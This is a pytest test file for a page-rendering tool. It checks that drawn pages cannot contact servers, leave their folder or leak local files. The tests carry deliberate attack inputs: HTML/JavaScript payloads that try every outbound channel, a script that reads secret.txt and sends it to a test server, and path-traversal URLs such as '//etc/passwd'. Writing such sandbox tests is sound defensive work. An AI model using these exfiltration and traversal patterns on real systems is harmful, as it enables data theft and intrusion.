"""What a page may load while it is drawn: nothing by itself, and only what the loader may."""

import socket
from collections.abc import Iterator
from dataclasses import replace
from http.server import BaseHTTPRequestHandler

import pytest

from pagelet.errors import OptionError, UnsafeAddress
from pagelet.sources.browser.resources import content_type, read_local
from tests.sources.drawing import OPTIONS, is_drawn, page, place, png
from tests.sources.loopback import Loopback, ReceivedRequest, running


class Answer(BaseHTTPRequestHandler):
    """Serves what a test put up; redirects by path."""

    def do_GET(self) -> None:
        self.server.requests.append(ReceivedRequest("GET", self.path, dict(self.headers), b""))
        kind, body = self.server.files.get(self.path, ("", b""))
        if kind == "redirect":
            self.send_response(302)
            self.send_header("Location", body)
        else:
            self.send_response(200 if kind else 404)
            self.send_header("Content-Type", kind or "text/plain")
        sent = b"" if kind == "redirect" else body
        self.send_header("Content-Length", str(len(sent)))
        self.end_headers()
        self.wfile.write(sent)

    def log_message(self, *_: object) -> None:
        """Say nothing."""


class Web(Loopback):
    def __init__(self) -> None:
        super().__init__(Answer)
        self.files: dict[str, tuple[str, bytes | str]] = {}


@pytest.fixture
def web() -> Iterator[Web]:
    with running(Web()) as server:
        yield server


@pytest.fixture
def other() -> Iterator[Web]:
    with running(Web()) as server:
        yield server


EVERY_WAY = """<link rel=preconnect href="{0}"><link rel=prefetch href="{0}/prefetch">
<link rel=stylesheet href="{0}/style"><meta http-equiv=refresh content="0;url={0}/refresh">
<style>p {{ background: url({0}/background) }} @import "{0}/import";
@font-face {{ font-family: x; src: url({0}/font) }} p {{ font-family: x }}</style>
<img src="{0}/img" srcset="{0}/set 2x"><iframe src="{0}/frame"></iframe><video src="{0}/video">
</video><object data="{0}/object"></object><embed src="{0}/embed"><input type=image src="{0}/input">
<svg><image href="{0}/image" /></svg><script src="{0}/script"></script><p>text</p>"""
BY_SCRIPT = """<a id=a ping="{0}/ping" href="#x">x</a><script>
const quietly = work => {{ try {{ work() }} catch {{ }} }}
fetch("{0}/fetch").catch(() => 0)
new Image().src = "{0}/new"
navigator.sendBeacon("{0}/beacon", "x")
new WebSocket("{0}/socket".replace("http", "ws"))
new EventSource("{0}/events")
quietly(() => new Worker(URL.createObjectURL(new Blob([`fetch("{0}/worker")`]))))
quietly(() => new SharedWorker(`data:text/javascript,fetch("{0}/shared")`))
quietly(() => navigator.serviceWorker.register("/worker.js").catch(() => 0))
quietly(() => {{
  const call = new RTCPeerConnection({{iceServers: [{{urls: "stun:{1}"}}]}})
  call.createDataChannel("x")
  call.createOffer().then(offer => call.setLocalDescription(offer))
}})
document.getElementById("a").click()
open("{0}/popup")
location = "{0}/location"
</script>"""


@pytest.mark.parametrize("network", ["off", "on"])
def test_a_local_page_reaches_nothing_on_this_machine(browser, web, network):
    source = page((EVERY_WAY + BY_SCRIPT).format(web.url, web.place))
    options = replace(OPTIONS, javascript="on", network=network, wait=0.5)
    drawn = browser.render(source, options)
    assert web.requests == []
    assert is_drawn(drawn, "/html/body/p/text()[1]")
    assert any("not followed" in note for note in drawn.notes)


def test_no_datagram_leaves_either(browser):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as listening:
        listening.bind(("127.0.0.1", 0))
        listening.settimeout(0.1)
        there = "{}:{}".format(*listening.getsockname())
        source = page(BY_SCRIPT.format(f"http://{there}", there))
        browser.render(source, replace(OPTIONS, javascript="on", network="on", wait=0.7))
        with pytest.raises(TimeoutError):
            listening.recv(100)


def test_a_page_of_the_web_is_loaded_through_checked_addresses(browser, web, other):
    web.files = {
        "/": ("text/html", page(f"<link rel=stylesheet href=s><img src=i><img src={other.url}/i>")),
        "/s": ("redirect", "/css/style"),
        "/css/style": ("text/css", b"img{border:2px solid red} body{background:url(deep)}"),
        "/css/deep": ("image/png", png((1, 2, 3, 255))),
        "/i": ("redirect", f"{other.url}/from-redirect"),
    }
    drawn = browser.render(f"{web.url}/", replace(OPTIONS, allow_private=(web.place,)))
    assert sorted(set(web.paths)) == ["/", "/css/deep", "/css/style", "/i", "/s"]
    assert other.requests == []
    assert drawn.page.url == f"{web.url}/"
    assert drawn.layout.border[drawn.page.row("/html/body/img[1]")].tolist() == [2, 2, 2, 2]
    assert any("not a public address" in note for note in drawn.notes)


def test_a_page_with_a_private_address_is_refused(browser, web):
    with pytest.raises(UnsafeAddress):
        browser.render(f"{web.url}/", OPTIONS)
    assert web.requests == []


def test_a_page_of_the_web_may_run_scripts_and_read_from_its_site(browser, web):
    web.files = {
        "/": ("text/html", page("<p id=p></p><script src=s></script>")),
        "/s": ("text/javascript", b"fetch('t').then(a => a.text()).then(t => p.append(t))"),
        "/t": ("text/plain", b"fetched"),
    }
    options = replace(OPTIONS, allow_private=(web.place,), wait=0.5)
    assert "fetched" in browser.render(f"{web.url}/", options).page.texts
    quiet = browser.render(f"{web.url}/", replace(options, javascript="off", wait=0))
    assert "fetched" not in quiet.page.texts


def test_a_page_may_ask_for_so_much_only(browser, web):
    many = "".join(f"<img src=/{number}>" for number in range(600))
    web.files = {"/": ("text/html", page(many))}
    drawn = browser.render(f"{web.url}/", replace(OPTIONS, allow_private=(web.place,)))
    assert len(web.requests) == 501  # the page itself and 500 images
    assert any("100 requested resources" in note and "too much" in note for note in drawn.notes)


def test_a_refresh_does_not_lead_away(browser, tmp_path):
    (tmp_path / "next.html").write_bytes(page("<p>next</p>"))
    source = b"<meta http-equiv=refresh content='0;url=next.html'><p>here</p>"
    drawn = browser.render(source, replace(OPTIONS, folder=str(tmp_path), wait=0.3))
    assert drawn.page.texts == ("here",)
    assert len(drawn.layout.line_row) == 1
    assert drawn.notes == (
        "the page leads on to http://page.invalid/next.html; it was not followed",
    )


# -- files beside the page ------------------------------------------------------------------------


def test_files_of_the_folder_and_no_others(browser, tmp_path):
    folder, secret = tmp_path / "site", tmp_path / "secret.css"
    (folder / "in").mkdir(parents=True)
    secret.write_text("p{width:1px!important}")
    (folder / "link.css").symlink_to(secret)
    (folder / "style.css").write_text("p{width:50px}")
    links = ("../style.css", "/link.css", "../../secret.css", secret.as_uri())
    body = "".join(f"<link rel=stylesheet href='{link}'>" for link in links) + "<p>x</p>"
    file = folder / "in" / "page.html"
    file.write_bytes(page(body))
    drawn = browser.render(file, replace(OPTIONS, folder=str(folder)))
    assert place(drawn, "/html/body/p")[2] == 50
    given = browser.render(page(body), replace(OPTIONS, folder=str(folder)), place="in/x.html")
    assert place(given, "/html/body/p")[2] == 50
    alone = browser.render(file, replace(OPTIONS, javascript="on"))
    assert place(alone, "/html/body/p")[2] == 800  # with scripts, its own folder is all
    beside = browser.render(file)
    assert place(beside, "/html/body/p")[2] == 1  # without them, style sheets above it too


@pytest.mark.parametrize(
    ("name", "url"),
    [
        ("a b.css", "http://x/a%20b.css"),
        ("a.css?v=1", "http://x/a.css?v=1"),
        ("a.css?v=1", "http://x/a.css%3Fv=1"),
        ("a.css?q=ä", "http://x/a.css?q=%C3%A4"),
        ("a.css", "http://x/a.css?v=1"),
        ("a%20b.css", "http://x/a%20b.css"),
    ],
)
def test_names_of_saved_files(tmp_path, name, url):
    (tmp_path / name).write_text("x")
    assert read_local(tmp_path, url, 1) == (b"x", "text/css")
    assert read_local(tmp_path, url, 0) is None


@pytest.mark.parametrize(
    "url",
    ["http://x/../a", "http://x/%2e%2e/a", "http://x//etc/passwd", "http://x/%00", "http://x/"],
)
def test_names_that_lead_out_or_nowhere(tmp_path, url):
    folder = tmp_path / "folder"
    folder.mkdir()
    (tmp_path / "a").write_text("x")
    assert read_local(folder.resolve(), url, 9) is None


def test_kinds_of_files():
    names = ("a.css?v=1.2", "b.js", "c.svg", "d.png", "e")
    kinds = ["text/css", "text/javascript", "image/svg+xml", "image/png"]
    assert [content_type(name) for name in names] == [*kinds, "application/octet-stream"]


# -- files of a local page -----------------------------------------------------------------------


@pytest.mark.parametrize("as_file", [True, False])
def test_a_local_page_cannot_send_its_folder_away(browser, web, tmp_path, as_file):
    (tmp_path / "secret.txt").write_text("secret")
    send = f"fetch('/secret.txt').then(a => a.text()).then(a => fetch('{web.url}/' + a))"
    html = f"<p>x<script>{send}</script>"
    (tmp_path / "page.html").write_text(html)
    source = tmp_path / "page.html" if as_file else html.encode()
    options = replace(OPTIONS, folder=str(tmp_path), javascript="on", wait=0.5)
    both = replace(options, network="on", allow_private=(web.place,))
    with pytest.raises(OptionError, match="--expose-folder"):
        browser.render(source, both)
    browser.render(source, options)
    assert web.requests == []
    browser.render(source, replace(both, expose_folder=True))
    assert web.paths == ["/secret"]
    browser.render(b"<p>no folder", replace(OPTIONS, javascript="on", network="on"))
